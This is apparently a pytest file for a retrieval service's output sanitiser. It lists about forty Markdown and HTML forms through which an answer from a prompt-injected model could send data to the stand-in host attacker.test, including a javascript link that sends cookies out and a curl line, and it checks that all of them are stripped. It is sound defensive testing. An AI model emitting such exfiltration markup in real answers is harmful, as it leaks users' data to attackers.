"""Item 7: exfiltration forms that bypassed the regex output sanitiser.

A model steered by a poisoned passage writes a link or image whose URL carries data out; a
renderer fetches the image as soon as the answer is shown. The table holds Markdown and HTML
forms a renderer turns into a fetch or a link; after sanitising, none may name the attacker's
host, and the answer's ``[n]`` citation markers must stay. End to end, the same answer comes
back clean through JSON ``/v1/ask``, every event of its SSE stream, and the MCP ``ask`` tool.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest

from fathom.guard import sanitize_output
from fathom.llm.testing import Reply, ScriptedLLMServer, documents
from tests.service.conftest import Served, serve

__all__ = ["serve"]  # the service fixture, used here

SOURCES = [
    "The support desk answers tickets within four business hours. "
    "The guide is at https://docs.example.com/guide.",
    "handbook.md",
]
LEAD = "The desk answers within four business hours"
LINK_REMOVED = "[link removed]"

# (id, form): every form points at attacker.test one way or another.
FORMS: list[tuple[str, str]] = [
    ("title_single_quoted", "![logo](http://attacker.test/c?d=secret 'x')"),
    ("title_double_quoted", '![logo](http://attacker.test/c?d=secret "x")'),
    ("title_parenthesised", "![logo](http://attacker.test/c?d=secret (x))"),
    ("angle_bracket_image", "![x](<http://attacker.test/c?d=secret>)"),
    ("angle_bracket_link_with_space", "[source](<http://attacker.test/c d=secret>)"),
    ("reference_image", "![x][r]\n\n[r]: http://attacker.test/c?d=secret"),
    ("reference_collapsed", "![x][]\n\n[x]: <http://attacker.test/c?d=secret>"),
    ("reference_title_next_line", "[source][r]\n\n[r]:\n  http://attacker.test/c?d=secret\n  'title'"),
    ("reference_hijacks_citation", "[2]\n\n[2]: http://attacker.test/c?d=secret"),
    ("html_img", '<img src="http://attacker.test/c?d=secret">'),
    ("html_img_uppercase_unquoted", "<IMG SRC=http://attacker.test/c?d=secret>"),
    ("html_anchor", '<a href="http://attacker.test/c?d=secret">source</a>'),
    ("html_block", '<div>\n<img src="http://attacker.test/c?d=secret">\n</div>'),
    ("html_comment", "<!-- http://attacker.test/c?d=secret -->"),
    ("autolink", "<http://attacker.test/c?d=secret>"),
    ("autolink_uppercase_scheme", "<HTTPS://ATTACKER.TEST/c?d=secret>"),
    ("nested_image_in_link", "[![x](http://attacker.test/i?d=secret)](http://attacker.test/l)"),
    ("nested_brackets", "[see [this] page](http://attacker.test/c?d=secret)"),
    ("space_inside_url", "![x](http://attacker.test/c?d= secret)"),
    ("newline_inside_url", "![x](http://attacker.test/c?d=\nsecret)"),
    ("entity_encoded_colon", "![x](http&#58;//attacker.test/c?d=secret)"),
    ("entity_encoded_scheme", "![x](&#x68;ttp://attacker.test/c?d=secret)"),
    ("entity_encoded_bare_url", "&#104;ttp://attacker.test/c?d=secret"),
    ("entity_escaped_html", "&lt;img src=http://attacker.test/c?d=secret&gt;"),
    ("data_uri_image", "![x](data:image/png;base64,aHR0cDovL2F0dGFja2VyLnRlc3Q=)"),
    ("data_uri_link", "[x](data:text/html;base64,PHNjcmlwdD4=)"),
    ("javascript_link", "[click](javascript:fetch('//attacker.test/'+document.cookie))"),
    ("javascript_mixed_case", "[click](JaVaScRiPt:location='//attacker.test/c')"),
    ("protocol_relative", "![x](//attacker.test/c?d=secret)"),
    ("uppercase_scheme_and_host", "![x](HTTP://ATTACKER.TEST/c?d=secret)"),
    ("bare_url", "see http://attacker.test/c?d=secret"),
    ("bare_www", "see www.attacker.test/c?d=secret"),
    ("code_span", "`![x](http://attacker.test/c?d=secret)`"),
    ("fenced_code", "\n\n```\n![x](http://attacker.test/c?d=secret)\n```\n"),
    ("escaped_brackets", "\\[x\\](http://attacker.test/c?d=secret)"),
    ("inside_emphasis", "**![x](http://attacker.test/c?d=secret)**"),
    ("table_cell", "\n\n| a | b |\n|---|---|\n| ![x](http://attacker.test/c?d=secret) | c |\n\n"),
    ("source_url_with_query", "![x](https://docs.example.com/guide?d=secret)"),
    ("source_host_lookalike", "![x](https://docs.example.com.attacker.test/guide)"),
]


@pytest.mark.parametrize("form", [f for _, f in FORMS], ids=[name for name, _ in FORMS])
def test_exfiltration_form_is_removed_and_citations_stay(form: str) -> None:
    text = f"{LEAD} [1]. {form} More text [1]."
    clean, removed = sanitize_output(text, SOURCES)
    lowered = clean.lower()
    assert "attacker" not in lowered, clean
    assert "secret" not in lowered or "?d=" not in lowered, clean
    for scheme in ("javascript:", "data:", "<img", "<a ", "<div", "<!--", "docs.example.com/guide?"):
        assert scheme not in lowered, clean
    assert removed >= 1
    assert clean.startswith(f"{LEAD} [1].") and clean.rstrip().endswith("More text [1]."), clean


def test_table_has_at_least_twenty_forms() -> None:
    assert len(FORMS) >= 20


def test_a_hijacked_citation_stays_a_citation() -> None:
    clean, _ = sanitize_output(f"{LEAD} [1].\n\n[1]: http://attacker.test/c?d=secret", SOURCES)
    assert clean == f"{LEAD} [1]."


def test_links_and_urls_from_the_sources_survive_and_clean_text_is_untouched() -> None:
    guide = "https://docs.example.com/guide"
    kept = f"{LEAD} [1]. Read [the guide]({guide}) or {guide}. [1]"
    assert sanitize_output(kept, SOURCES) == (kept, 0)
    plain = f"{LEAD} [1][2]. Refunds take *14 days* [2].\n\n- first [1]\n- second [2]"
    assert sanitize_output(plain, SOURCES) == (plain, 0)
    prefix = f"{LEAD} [1]. See https://docs.example.com/gui for more."
    assert sanitize_output(prefix, SOURCES)[0] == f"{LEAD} [1]. See {LINK_REMOVED} for more."


def test_code_keeps_its_text_but_loses_a_foreign_url() -> None:
    clean, removed = sanitize_output("Run `curl http://attacker.test/x` [1].", SOURCES)
    assert clean == f"Run `curl {LINK_REMOVED}` [1]." and removed == 1


# -- end to end ------------------------------------------------------------------------------------

HANDBOOK = """# Support handbook

The support desk answers tickets within four business hours. Urgent tickets are escalated to the
on-call engineer after thirty minutes.
"""
QUESTION = "How quickly does the support desk answer tickets?"
HOSTILE = (
    " ![logo](http://attacker.test/c?d=secret 'x') ![x](<http://attacker.test/a?d=secret>)"
    " <img src=http://attacker.test/i> [more](javascript:alert(1))"
)


def hostile_answer(request: dict[str, Any]) -> Reply:
    """The handbook's sentence, cited, with exfiltration markup inside it."""
    for n, text in documents(request).items():
        if "business hours" in text:
            return Reply(text=f"The support desk answers tickets within four business hours{HOSTILE} [{n}].")
    return Reply(text="Not in the documents.")


@pytest.fixture
def llm_served(serve: Any) -> Iterator[Served]:
    with ScriptedLLMServer(hostile_answer) as llm:
        served = serve(
            llm="openai:scripted-model",
            llm_base_url=llm.url,
            llm_api_key="sk-test",
            llm_retries=0,
            answer_cache_size=0,
        )
        yield served


def _assert_clean(answer: str) -> None:
    assert "attacker" not in answer and "javascript" not in answer and "<img" not in answer, answer


def test_json_ask_sse_events_and_mcp_ask_carry_no_exfiltration(llm_served: Served) -> None:
    served = llm_served
    alice = served.key()
    served.upload(alice, text=HANDBOOK, source="handbook.md")

    plain = served.client.post("/v1/ask", json={"query": QUESTION}, headers=alice).json()
    assert plain["model"] == "openai:scripted-model" and not plain["abstained"], plain
    assert "four business hours" in plain["answer"]
    _assert_clean(plain["answer"])
    assert any("not from the sources removed" in note for note in plain["notes"])

    with served.client.stream(
        "POST", "/v1/ask", json={"query": QUESTION}, headers={**alice, "Accept": "text/event-stream"}
    ) as response:
        body = response.read().decode()
    events = []
    for block in body.split("\n\n"):
        if block.strip():
            name, data = block.split("\n", 1)
            events.append((name.removeprefix("event: "), json.loads(data.removeprefix("data: "))))
    assert events[-1][0] == "done"
    _assert_clean(events[-1][1]["answer"])
    _assert_clean("".join(data["text"] for name, data in events if name == "delta"))
    _assert_clean(body)

    call = {
        "jsonrpc": "2.0",
        "id": 1,
        "method": "tools/call",
        "params": {"name": "ask", "arguments": {"question": QUESTION}},
    }
    response = served.client.post(
        "/mcp",
        json=call,
        headers={
            **alice,
            "Accept": "application/json, text/event-stream",
            "MCP-Protocol-Version": "2025-06-18",
        },
    )
    assert response.status_code == 200, response.text
    result = response.json()["result"]
    assert not result.get("isError"), result
    assert "four business hours" in result["structuredContent"]["answer"]
    _assert_clean(json.dumps(result))
